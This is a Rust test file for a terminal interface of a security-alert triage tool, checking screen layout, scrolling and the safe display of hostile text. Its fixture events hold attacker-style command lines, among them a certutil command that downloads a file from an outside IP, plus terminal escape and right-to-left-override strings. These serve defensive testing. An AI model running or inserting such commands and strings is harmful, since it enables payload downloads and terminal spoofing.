//! What stands on the screen. Expected screens are files in `tests/cli/expected`, compared whole;
//! `UPDATE_EXPECTED=1` rewrites them.

use std::path::Path;

use super::*;

#[track_caller]
fn assert_expected(name: &str, found: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/expected").join(name);
    if std::env::var_os("UPDATE_EXPECTED").is_some() {
        std::fs::write(&path, found).unwrap();
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(found, expected, "{name} is not as expected; UPDATE_EXPECTED=1 rewrites it");
}

/// A case with a finding of several groups, one of which has an event of its own.
fn night() -> Bench {
    Bench::with(&[
        event(1, "web01", "\"cmd.exe\" /c whoami"),
        event(2, "web01", "\"cmd.exe\" /c \"ping -n 1 shipping.example.com\""),
        event(3, "web01", "\"cmd.exe\" /c \"ping -n 1 shipping.example.com\""),
        event(
            4,
            "web01",
            "\"cmd.exe\" /c \"certutil -urlcache -f http://198.51.100.23/u.dat %TEMP%\\u.dat\"",
        ),
    ])
}

#[test]
fn an_ordinary_screen_shows_what_matters_and_the_keys() {
    let bench = night();
    let mut desk = bench.desk();
    assert_expected("triage_80x24.txt", &drawn(&mut desk, 80, 24));
    press(&mut desk, "c");
    assert_expected("triage_verdict_80x24.txt", &drawn(&mut desk, 80, 24));
}

#[test]
fn what_may_be_forged_stands_apart_and_is_told_above_all_events() {
    let bench = night();
    // The rows of the third and the fourth event; the second is like the third.
    bench.case.connection().execute("UPDATE import SET recovered_after = 3", []).unwrap();
    let screen = drawn(&mut bench.desk(), 120, 60);
    assert!(
        screen.contains("Recovered   2 of 4 events rest on rows recovered behind a broken one"),
        "{screen}"
    );
    assert!(
        screen.contains("Source      first.csv line 4, recovered behind the broken row of line 3"),
        "{screen}"
    );
    assert_eq!((screen.matches("4 distinct").count(), screen.matches("Source").count()), (1, 2), "{screen}");
}

#[test]
fn a_large_screen_shows_the_guidance_notes_and_history_too() {
    let bench = night();
    let mut desk = bench.desk();
    press(&mut desk, "nasked the shop's owner\nalee\n");
    assert_expected("triage_120x40.txt", &drawn(&mut desk, 120, 40));
}

#[test]
fn a_small_screen_scrolls_through_everything() {
    let bench = night();
    let mut desk = bench.desk();
    assert_expected("triage_40x10.txt", &drawn(&mut desk, 40, 10));
    let mut seen = String::new();
    for _ in 0..30 {
        seen += &drawn(&mut desk, 40, 10);
        press(&mut desk, " ");
    }
    for text in ["whoami", "certutil", "935c1861df1f4018", "Hypothesis"] {
        assert!(seen.contains(text), "{text} in\n{seen}");
    }
}

#[test]
fn a_tiny_screen_says_so() {
    let bench = night();
    assert_eq!(drawn(&mut bench.desk(), 20, 5), "too small: 36 x 8 is\nneeded; q quits\n\n\n\n");
}

#[test]
fn no_size_and_no_mode_ends_in_a_panic() {
    let bench = night();
    for keys in ["", "c", "n", "a", "n東京", "?", "s"] {
        let mut desk = bench.desk();
        drawn(&mut desk, 80, 24);
        press(&mut desk, keys);
        for (width, height) in [(0, 0), (1, 1), (5, 50), (36, 8), (37, 8), (36, 9), (200, 8), (250, 100)] {
            drawn(&mut desk, width, height);
        }
    }
}

#[test]
fn the_end_of_the_queue_says_what_was_decided() {
    let bench = Bench::with_three();
    let mut desk = bench.desk();
    press(&mut desk, "f1\nss");
    let screen = drawn(&mut desk, 80, 24);
    assert!(screen.contains("The end of the queue: 3 findings, 1 decided, 2 skipped."), "{screen}");
    assert!(screen.contains("Skipped: F-2, F-1"), "{screen}");
    assert!(screen.contains("< back"), "{screen}");
}

#[test]
fn a_long_command_line_is_folded_and_scrolls() {
    let long = format!("cmd.exe /c whoami {} the-end", "A".repeat(8_000));
    let bench = Bench::with(&[event(1, "web01", &long)]);
    let mut desk = bench.desk();
    let first = drawn(&mut desk, 80, 24);
    assert!(first.contains("reversed on row 7: whoami"), "{first}");
    desk.press(KeyEvent::new(KeyCode::End, KeyModifiers::NONE));
    press(&mut desk, &"k".repeat(8));
    assert!(drawn(&mut desk, 80, 24).contains("the-end"));
    press(&mut desk, &"j".repeat(500));
    drawn(&mut desk, 80, 24);
    let end = desk.scroll();
    press(&mut desk, "k");
    assert_eq!(desk.scroll(), end - 1, "scrolling beyond the end is not remembered");
}

#[test]
fn hostile_text_is_spelled_out_and_wide_text_stays_in_its_columns() {
    let nasty = "cmd /c whoami \u{1b}]0;owned\u{7}\u{1b}[2J\t\u{202e}gpj.exe\u{200b}\u{9b}31m 東京 e\u{301}";
    let bench = Bench::with(&[event(1, "web\u{1b}[31m\u{202e}01", nasty)]);
    let mut desk = bench.desk();
    press(&mut desk, "nseen \u{202e}\u{1b}");
    desk.paste("x");
    press(&mut desk, "n\u{202e}\u{9b}\nalee\u{202e}\n");
    for (width, height) in [(80, 24), (40, 10), (120, 40)] {
        let screen = drawn(&mut desk, width, height);
        let raw = |c: &char| (c.is_control() && *c != '\n') || ['\u{202e}', '\u{200b}'].contains(c);
        assert_eq!(screen.chars().find(raw), None, "{}", screen.escape_debug());
    }
    let screen = drawn(&mut desk, 120, 40);
    assert!(
        screen.contains("whoami \\x1b]0;owned\\x07\\x1b[2J\\t\\u{202e}gpj.exe\\u{200b}\\x9b31m"),
        "{screen}"
    );
}

#[test]
fn the_part_that_is_typed_stays_on_the_screen() {
    let bench = night();
    let mut desk = bench.desk();
    press(&mut desk, &format!("n{}the end", "long ".repeat(40)));
    let screen = drawn(&mut desk, 80, 24);
    assert!(screen.lines().any(|row| row.starts_with("> ") && row.ends_with("the end")), "{screen}");
}
